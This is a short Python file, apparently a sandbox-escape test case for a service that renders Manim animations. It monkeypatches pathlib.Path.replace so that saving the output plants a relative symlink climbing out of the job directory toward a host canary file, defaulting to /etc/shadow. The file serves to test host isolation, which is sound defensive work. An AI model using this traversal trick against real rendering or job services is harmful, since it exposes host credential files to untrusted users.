"""E1/E7: a relative symlink climbing out of the job dir to the host canary ('..' past the root
stays at the root, so enough of them reach the canary wherever the host keeps job dirs)."""

import os
import pathlib

from manim import Circle, Create, Scene

PARAMS = {}


def plant(movie, target):
    os.symlink("../" * 40 + PARAMS.get("canary", "/etc/shadow").lstrip("/"), target)
    return pathlib.Path(target)


class OutputSymlinkTraversal(Scene):
    def construct(self):
        self.play(Create(Circle()), run_time=0.2)
        pathlib.Path.replace = plant
